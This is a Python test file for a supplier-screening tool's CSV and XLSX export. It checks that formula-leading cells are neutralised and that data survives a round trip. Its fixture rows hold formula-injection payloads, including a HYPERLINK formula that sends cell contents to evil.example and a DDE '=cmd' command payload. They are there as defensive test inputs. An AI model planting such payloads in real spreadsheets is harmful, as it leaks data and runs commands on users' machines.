"""CSV and XLSX exports: formula-leading cells are neutralised, data survives a round trip."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from flscreen.reports.tabular import FORMULA_LEADS, cell_value, export, neutralise, to_csv, to_xlsx

# Supplier names as an importer's file or a hostile list entry might carry them.
ROWS = [
    {"id": "S-1001", "name": "Xinjiang Hoshine Silicon Industry Co., Ltd.", "score": 0.97},
    {"id": "S-1002", "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "score": 0.5},
    {"id": "S-1003", "name": "+86 991 555 0100", "score": -1.5},
    {"id": "S-1004", "name": "-2+3", "score": 0},
    {"id": "S-1005", "name": "@SUM(A1:A9)", "score": None},
    {"id": "S-1006", "name": "\t=1+1", "aliases": ["新疆协鑫", "=cmd|' /C calc'!A0"]},
    {"id": "S-1007", "name": "\r=1+1", "score": True},
    {"id": "S-1008", "name": "昌吉溢达纺织有限公司", "score": 0.88},
]


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_every_formula_lead_is_neutralised(lead: str) -> None:
    assert neutralise(f"{lead}1+1") == f"'{lead}1+1"


def test_plain_text_and_numbers_are_untouched() -> None:
    assert neutralise("Hoshine") == "Hoshine"
    assert cell_value(-12.5) == -12.5  # a real number is not text, so not a formula
    assert cell_value(3) == 3
    assert cell_value(["=x"]) == '["=x"]'  # JSON text starting with '[' is safe


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith("\ufeff".encode())  # Excel needs the BOM to read UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_neutralises_and_keeps_everything_else() -> None:
    rows = _csv_rows(to_csv(ROWS))
    assert [r["id"] for r in rows] == [r["id"] for r in ROWS]
    names = [r["name"] for r in rows]
    for name in names:
        assert not name.startswith(FORMULA_LEADS), name
    assert names[0] == "Xinjiang Hoshine Silicon Industry Co., Ltd."
    assert names[1] == "'" + ROWS[1]["name"]
    assert names[7] == "昌吉溢达纺织有限公司"
    # header is every key in first-seen order; missing values are empty
    assert list(rows[0]) == ["id", "name", "score", "aliases"]
    assert rows[0]["aliases"] == "" and rows[4]["score"] == ""
    assert rows[2]["score"] == "-1.5"


def test_xlsx_cells_are_text_never_formulas() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(ROWS, sheet="match batch: 2026/12")))
    ws = book.active
    assert ws.title == "match batch_ 2026_12"
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == ["id", "name", "score", "aliases"]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_LEADS), cell.value
    assert values[1][2] == 0.97 and values[3][2] == -1.5  # numbers stay numeric
    assert values[7][2] is True
    assert values[8][1] == "昌吉溢达纺织有限公司"
    assert values[6][3] == '["新疆协鑫", "=cmd|\' /C calc\'!A0"]'


def test_given_columns_stream_in_order_and_unknown_format_is_refused() -> None:
    body, media = export(iter(ROWS), "csv", columns=["name", "id"])
    assert media.startswith("text/csv")
    rows = _csv_rows(body)
    assert list(rows[0]) == ["name", "id"] and len(rows) == len(ROWS)
    body, media = export(iter(ROWS), "xlsx", columns=["id"])
    assert media.endswith("spreadsheetml.sheet") and body[:2] == b"PK"
    with pytest.raises(ValueError, match="csv, xlsx"):
        export(ROWS, "ods")


def test_control_characters_do_not_break_the_workbook() -> None:
    body = to_xlsx([{"name": "bad\x00name\x1b"}])
    assert load_workbook(io.BytesIO(body)).active["A2"].value == "badname"
